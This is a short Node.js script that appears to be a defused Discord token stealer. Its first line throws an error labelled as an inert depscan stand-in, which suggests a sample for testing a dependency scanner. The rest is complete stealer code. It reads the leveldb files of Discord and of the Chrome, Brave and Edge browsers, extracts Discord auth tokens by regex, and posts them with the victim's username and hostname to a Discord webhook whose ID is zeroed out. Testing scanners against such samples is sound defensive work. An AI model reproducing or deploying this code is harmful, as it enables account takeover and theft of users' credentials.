throw new Error("inert depscan stand-in");
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const roaming = process.env.APPDATA || path.join(os.homedir(), '.config');
const local = process.env.LOCALAPPDATA || path.join(os.homedir(), '.config');
const stores = [
  path.join(roaming, 'discord', 'Local Storage', 'leveldb'),
  path.join(roaming, 'discordcanary', 'Local Storage', 'leveldb'),
  path.join(roaming, 'discordptb', 'Local Storage', 'leveldb'),
  path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb'),
  path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default', 'Local Storage', 'leveldb'),
  path.join(local, 'Microsoft', 'Edge', 'User Data', 'Default', 'Local Storage', 'leveldb'),
];
const TOKEN = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g;

const tokens = new Set();
for (const dir of stores) {
  let files = [];
  try {
    files = fs.readdirSync(dir).filter((name) => name.endsWith('.ldb') || name.endsWith('.log'));
  } catch (error) {
    continue;
  }
  for (const file of files) {
    const text = fs.readFileSync(path.join(dir, file), 'latin1');
    for (const match of text.match(TOKEN) || []) tokens.add(match);
  }
}

if (tokens.size) {
  const body = JSON.stringify({
    username: os.userInfo().username,
    content: `${os.hostname()} ${[...tokens].join(' ')}`,
  });
  const req = https.request('https://discord.com/api/webhooks/000000000000000000/0000000000000000000000000000000000000000000000000000000000000000000', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
  });
  req.on('error', () => {});
  req.end(body);
}
